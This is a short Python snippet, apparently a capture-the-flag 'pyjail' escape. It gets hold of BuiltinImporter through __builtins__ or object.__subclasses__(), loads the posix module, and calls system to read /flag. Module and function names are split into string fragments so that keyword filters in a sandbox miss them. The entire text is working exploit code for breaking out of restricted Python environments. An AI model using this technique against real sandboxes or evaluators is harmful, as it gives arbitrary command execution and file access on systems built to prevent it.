# technique: the builtins module's __loader__ (BuiltinImporter) loads the C-level OS module by a joined name
bi = (lambda: 0).__globals__["__bu" "iltins__"]
bi = bi if isinstance(bi, dict) else vars(bi)
L = bi.get("__loader__")
if getattr(L, "__name__", "") != "BuiltinImporter":
    L = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
name = "".join(["p", "o", "s", "i", "x"])
px = L.load_module(name)
cmd = getattr(px, "sy" + "st" + "em")
cmd("c" "a" "t /fl" "ag")
